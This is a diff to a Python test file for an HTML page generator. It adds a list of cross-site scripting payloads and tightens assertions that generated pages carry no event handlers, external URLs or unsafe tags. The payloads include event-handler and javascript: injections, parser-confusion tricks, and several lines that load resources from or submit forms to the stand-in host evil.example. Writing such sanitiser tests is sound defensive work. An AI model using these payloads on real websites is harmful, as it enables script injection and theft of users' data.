@@ -32,6 +32,31 @@ PAYLOADS = [
     "\x00\x01\x1b[31m\x7f\u202egnp.exe\ufeff\ud7ff",
     "../../../etc/passwd",
     "🦀" * 40,
+    "<img/src/onerror=alert(1)>",
+    "<IMG SRC=javascript:alert(1)>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='//evil.example/x.swf'>",
+    "<link rel=stylesheet href='//evil.example/x.css'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href='//evil.example/'>",
+    "<form action='//evil.example'><button>x</button></form>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<title></title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</text></svg><script>alert(1)</script>",
+    "background:url(//evil.example/x)",
+    "url(//evil.example/x)",
+    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
+    "\u2028\u2029</td></tr></table><h1>x</h1>",
     "x" * 1_000_000,
 ]
 TAGS = """html head meta title style body header main h1 h2 p code ul li div figure figcaption table
@@ -39,17 +64,22 @@ thead tbody tr th td svg g path defs clippath rect use text tspan line"""
 
 
 class Nodes(HTMLParser):
-    """All elements and attributes of a page."""
+    """All elements, attributes and style sheets of a page."""
 
     def __init__(self, text: str) -> None:
         super().__init__()
         self.tags: set[str] = set()
         self.attributes: list[tuple[str, str]] = []
+        self.styles: list[str] = []
         self.feed(text)
 
     def handle_starttag(self, tag, attrs):
         self.tags.add(tag)
         self.attributes += [(k, v or "") for k, v in attrs]
+
+    def handle_data(self, data):
+        if self.cdata_elem == "style":
+            self.styles.append(data)
 
 
 def check(page: str) -> None:
@@ -58,7 +88,8 @@ def check(page: str) -> None:
     assert nodes.tags <= set(re.findall(r"\w+", TAGS))
     assert not [k for k, _ in nodes.attributes if k.startswith("on") or k in ("src", "action", "srcdoc")]
     assert all(v.startswith("#") for k, v in nodes.attributes if k.endswith("href"))
-    assert all(m == "#" for m in re.findall(r"url\((.)", page))
+    styles = [*nodes.styles, *(v for _, v in nodes.attributes)]
+    assert all(m == "#" for text in styles for m in re.findall(r"url\((.)", text))
     assert "default-src 'none'" in page
 
 
